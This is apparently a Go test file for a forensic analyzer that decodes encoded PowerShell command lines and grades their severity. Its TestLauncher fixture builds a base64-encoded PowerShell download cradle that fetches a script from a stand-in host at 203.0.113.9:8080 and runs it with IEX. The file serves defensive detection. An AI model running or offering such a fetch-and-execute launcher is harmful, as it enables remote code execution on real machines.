package decode

import (
	"encoding/base64"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"forensic/analyzers/analyzertest"
	"forensic/analyzers/finding"
)

func encode(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestLauncher(t *testing.T) {
	launcher := "$c=New-Object Net.WebClient;$u=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + encode("http://203.0.113.9:8080") + "'));IEX $c.DownloadString($u)"
	at := time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC)
	p := analyzertest.Run(t, Analyzer,
		analyzertest.Row{"class": "process_start", "dataset": "d", "host_name": "h", "ts": at, "process_command_line": "powershell -NoP -enc " + encode(launcher)},
		analyzertest.Row{"class": "script_pipeline", "dataset": "d", "host_name": "h", "ts": at.Add(time.Hour), "script_host_application": "powershell.exe  -enc " + encode(launcher)},
		analyzertest.Row{"class": "process_start", "dataset": "d", "host_name": "h", "ts": at, "process_command_line": `C:\Program Files\agent.exe --id 0123456789abcdef0123456789abcdef`},
	)
	if len(p.Findings) != 1 {
		t.Fatalf("%d findings: %+v", len(p.Findings), p.Findings)
	}
	f := p.Findings[0]
	if f.Severity != finding.High || f.EvidenceTotal != 2 || len(f.Evidence) != 2 || !strings.Contains(f.Why, "http://203.0.113.9:8080") {
		t.Errorf("%+v", f)
	}
	if f.First != at.UnixMicro() || f.Last != at.Add(time.Hour).UnixMicro() || f.Host != "h" {
		t.Errorf("%+v", f)
	}
	table := p.Exhibits[1].Table
	if n := len(table.Rows); n != 2 || table.Rows[1][2] != "http://203.0.113.9:8080" || table.Rows[1][0] != "2" {
		t.Errorf("table: %q", table.Rows)
	}
	if n := len(p.Exhibits[0].Forest.Nodes); n != 3 {
		t.Errorf("%d nodes", n)
	}
}

func TestHarmlessEncodedCommandIsLow(t *testing.T) {
	p := analyzertest.Run(t, Analyzer, analyzertest.Row{"class": "process_start", "process_command_line": "powershell -EncodedCommand " + encode("Get-Service | Where-Object Status -eq Running")})
	if len(p.Findings) != 1 || p.Findings[0].Severity != finding.Low {
		t.Errorf("%+v", p.Findings)
	}
}

func TestNothingEncoded(t *testing.T) {
	p := analyzertest.Run(t, Analyzer, analyzertest.Row{"class": "process_start", "process_command_line": `C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule SHA256=A75C85F3B089993E9C042FB82ECB7757E8F460ED8065FC7991CAA38A6DE0F50C`})
	if len(p.Findings) != 0 || len(p.Exhibits) != 0 {
		t.Errorf("%+v %+v", p.Findings, p.Exhibits)
	}
}
